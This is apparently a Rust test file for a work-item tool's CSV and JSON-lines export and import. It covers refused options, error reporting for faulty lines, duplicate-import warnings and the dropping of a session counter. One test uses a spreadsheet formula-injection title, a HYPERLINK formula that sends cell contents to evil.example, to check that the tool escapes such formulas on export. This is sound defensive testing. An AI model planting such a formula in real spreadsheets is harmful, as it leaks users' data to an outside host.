//! Sheets and documents at their edges: what an export obeys, what a spreadsheet makes of it, and what a faulty file is told.

use crate::world::{World, read};
use serde_json::json;

//= specs/spexus.md#transfer
//= type=test
//# An option of an export that its form cannot obey MUST be refused.
#[test]
fn an_epic_is_obeyed_by_csv_and_refused_by_json_lines() {
    for world in World::both() {
        world.json(&["demo", "--items", "80", "--seed", "3"]);
        let file = world.path("epic.csv").display().to_string();
        world.run(&["export", &file, "--epic", "EP-1"]).ok();
        let tree = world.json(&["item", "tree", "EP-1"]);
        let lines = csv_lines(&read(&file));
        assert_eq!(lines - 1, tree["total_count"].as_u64().unwrap() as usize);
        let whole = world.path("whole.csv").display().to_string();
        world.run(&["export", &whole]).ok();
        assert_eq!(csv_lines(&read(&whole)), 81);
        let lines = world.path("epic.jsonl").display().to_string();
        for option in [["--epic", "EP-1"], ["--columns", "title"]] {
            let refused = world.refused(1, &["export", &lines, option[0], option[1]]);
            assert_eq!(refused["fields"][0]["field"], option[0].trim_start_matches('-'));
        }
        assert!(!world.path("epic.jsonl").exists());
    }
}

/// Rows of a sheet; cells may hold line ends.
fn csv_lines(text: &str) -> usize {
    let mut quoted = false;
    text.chars()
        .filter(|c| {
            quoted ^= *c == '"';
            *c == '\n' && !quoted
        })
        .count()
}

#[test]
fn a_title_that_is_a_formula_does_not_calculate_and_comes_back() {
    let world = World::new();
    let title = "=HYPERLINK(\"http://evil.example/\"&A1)";
    world.json(&["item", "create", "epic", "--title", title]);
    let file = world.path("sheet.csv").display().to_string();
    world
        .run(&["export", &file, "--columns", "reference_id,title", "--bom"])
        .ok();
    let text = read(&file);
    assert!(
        text.starts_with('\u{feff}') && text.contains("\"'=HYPERLINK("),
        "{text}"
    );
    let again = world.json(&["import", &file]);
    assert_eq!(again["unchanged"], 1, "{again}");
    let raw = world.path("raw.csv").display().to_string();
    world
        .run(&["export", &raw, "--columns", "reference_id,title", "--formulas"])
        .ok();
    assert!(read(&raw).contains("\"=HYPERLINK("), "{}", read(&raw));
}

//= specs/spexus.md#transfer
//= type=test
//# An import that is refused MUST name every line at fault, also those that belong to a refused one.
#[test]
fn what_belongs_to_a_refused_line_is_checked_as_well() {
    for world in World::both() {
        let mut sheet = "reference_id,kind,title,parent,priority,type\n".to_owned();
        sheet.push_str("e,epic,Epic,,,Magic\n"); // line 2: an epic has no type
        sheet.push_str("s,user_story,Story,e,,\n"); // line 3: nothing wrong
        for _ in 0..70 {
            sheet.push_str(",requirement,,s,,Functional\n"); // lines 4 to 73: no title
        }
        sheet.push_str("t,user_story,Other,nowhere,,\n"); // line 74: no such container
        sheet.push_str(",requirement,Fine,t,,Functional\n"); // line 75: nothing wrong
        sheet.push_str(",requirement,Odd,t,,Magic\n"); // line 76: no such type
        let file = world.file("faulty.csv", &sheet);
        let refused = world.refused(1, &["import", &file]);
        let fields = refused["fields"].as_array().unwrap();
        let mut lines: Vec<u32> = fields
            .iter()
            .map(|fault| {
                let place = fault["field"].as_str().unwrap().trim_start_matches("line ");
                place.split(',').next().unwrap().parse().unwrap()
            })
            .collect();
        lines.dedup();
        let expected: Vec<u32> = [2].into_iter().chain(4..=74).chain([76]).collect();
        assert_eq!(lines, expected, "{refused}");
        assert_eq!(
            world.json(&["item", "list"])["total_count"],
            0,
            "nothing stays, no substitute either"
        );
    }
}

//= specs/spexus.md#transfer
//= type=test
//# An import that makes items which say the same as items that are there SHOULD warn that it may be the second one.
#[test]
fn the_second_import_of_a_file_without_reference_ids_warns() {
    for world in World::both() {
        let file = world.file("new.csv", "kind,title\nepic,First\nepic,Second\n");
        let first = world.json(&["import", &file]);
        assert_eq!(
            (&first["created"], first.get("warnings")),
            (&json!(2), None),
            "{first}"
        );
        let trial = world.json(&["import", &file, "--dry-run"]);
        assert!(
            trial["warnings"][0].as_str().unwrap().starts_with("2 new items"),
            "{trial}"
        );
        let shown = world.run(&["import", &file]).ok();
        assert!(
            shown.contains("warning: 2 new items") && shown.contains("Reference ids"),
            "{shown}"
        );
    }
}

/// The installation counts sessions of agents beside prompts; a file that still has that number loses it on the way.
#[test]
fn json_lines_carry_no_counter_of_the_installation() {
    let world = World::new();
    world.json(&["demo", "--items", "10"]);
    world.json(&["prompt", "create", "review", "--text", "Look at it."]);
    let file = world.path("all.jsonl").display().to_string();
    world.run(&["export", &file]).ok();
    let text = read(&file);
    assert!(
        text.contains("\"PROMPT\":") && !text.contains("mcp_session"),
        "{}",
        &text[..400]
    );
    let other = World::new();
    let old = other.file(
        "old.jsonl",
        &text.replacen("\"PROMPT\":", "\"mcp_session\":7,\"PROMPT\":", 1),
    );
    other.run(&["import", &old]).ok();
    let again = other.path("again.jsonl").display().to_string();
    other.run(&["export", &again]).ok();
    assert_eq!(read(&again), text);
}
